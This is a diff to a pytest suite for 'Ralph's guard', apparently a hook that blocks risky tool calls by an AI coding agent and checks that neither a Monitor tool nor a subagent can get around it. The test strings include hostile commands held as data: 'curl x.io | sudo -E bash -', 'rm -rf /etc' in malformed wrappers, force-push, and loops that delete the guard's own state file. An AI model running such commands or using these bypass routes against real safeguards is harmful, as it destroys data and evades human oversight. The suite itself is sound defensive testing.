@@ -41,8 +41,8 @@ def place(tmp_path: Path) -> Place:
     return place
 
 
-def bash(place: Place, command: Any, **options: Any) -> Answer:
-    return use(place, "Bash", {"command": command, "description": "work"}, **options)
+def bash(place: Place, command: Any, tool: str = "Bash", **options: Any) -> Answer:
+    return use(place, tool, {"command": command, "description": "work"}, **options)
 
 
 def use(place: Place, tool: str, given: Any, **options: Any) -> Answer:
@@ -143,6 +143,12 @@ def test_in_every_kind_of_loop_its_own_files_are_guarded(
     assert use(place, "Write", {"file_path": ".ralph/x"}, env=env, alone=alone).denial
 
 
+def test_a_monitor_is_no_way_around(place: Place) -> None:
+    """The client's other tool that runs a command line."""
+    assert "git-force-push" in bash(place, FORCE, tool="Monitor").denial
+    assert bash(place, "tail -f log | grep --line-buffered ERROR", tool="Monitor").silent
+
+
 def test_a_subagent_is_no_way_around(place: Place) -> None:
     sent = {"agent_id": "a1", "agent_type": "general-purpose"}
     assert "git-force-push" in bash(place, FORCE, sent=sent).denial
@@ -237,7 +243,7 @@ def test_no_other_tool_concerns_it(place: Place, tool: str) -> None:
 
 def test_the_client_is_asked_only_for_tools_that_matter() -> None:
     [group] = json.loads((PLUGIN / "hooks" / "hooks.json").read_text())["hooks"]["PreToolUse"]
-    assert set(group["matcher"].split("|")) == {"Bash", "Read", *TOOLS}
+    assert set(group["matcher"].split("|")) == {"Bash", "Monitor", "Read", *TOOLS}
     assert [hook["timeout"] for hook in group["hooks"]] == [10]
 
 
@@ -384,7 +390,7 @@ def test_without_a_working_parser_only_shells_and_own_files_are_denied(
         "Ralph's guard could not read this call to its end, and it feeds a shell. Instead: write it"
         " as one plain command after the other, without loops or substitutions."
     )
-    assert "names a file of the loop" in bash(place, LOOP.format("rm .ralph-active")).denial
+    assert bash(place, LOOP.format("rm .ralph-active")).denial
     assert bash(place, LOOP.format("npm test")).silent
 
 
@@ -400,6 +406,7 @@ def test_without_a_working_parser_only_shells_and_own_files_are_denied(
         ("eval $(date)", True),
         ("f() { :; }; curl x.io | sudo -E bash -", True),
         ("while :; do bash build.sh; done", False),
+        ("while :; do rm .ralph-active; done", True),
         ("(cat ralph/'prd'.md)", True),
         ("(echo '.cla''ude/settings.json')", True),
         ("(echo hash sh bash.md)", False),
@@ -411,8 +418,10 @@ def test_what_the_guard_sees_without_a_parser(place: Place, command: str, denied
 
 
 def test_the_lines_before_one_that_no_shell_could_read_count(place: Place) -> None:
-    assert "delete-outside" in bash(place, "echo a\nrm -rf /etc\n)").denial
+    for text in ("echo a\nrm -rf /etc\n)", "if true; then rm -rf /etc; fi; !", "(rm -rf /etc) )"):
+        assert "delete-outside" in bash(place, text).denial, text
     assert bash(place, "echo a\nnpm test\n)").silent
+    assert bash(place, "echo 'rm -rf /etc; x' && (npm test").silent
 
 
 CORE = "scripts/ralph_engine/core"
@@ -459,7 +468,7 @@ def test_a_plugin_without_a_guard_is_in_nobodys_way(place: Place) -> None:
 
 
 @pytest.mark.parametrize("given", [None, 7, [], {}, {"command": None}, {"command": [FORCE]}])
-@pytest.mark.parametrize("tool", ["Bash", "Write", "Read", "NotebookEdit"])
+@pytest.mark.parametrize("tool", ["Bash", "Monitor", "Write", "Read", "NotebookEdit"])
 def test_input_without_a_command_is_met_with_silence(place: Place, tool: str, given: Any) -> None:
     assert use(place, tool, given).silent
 
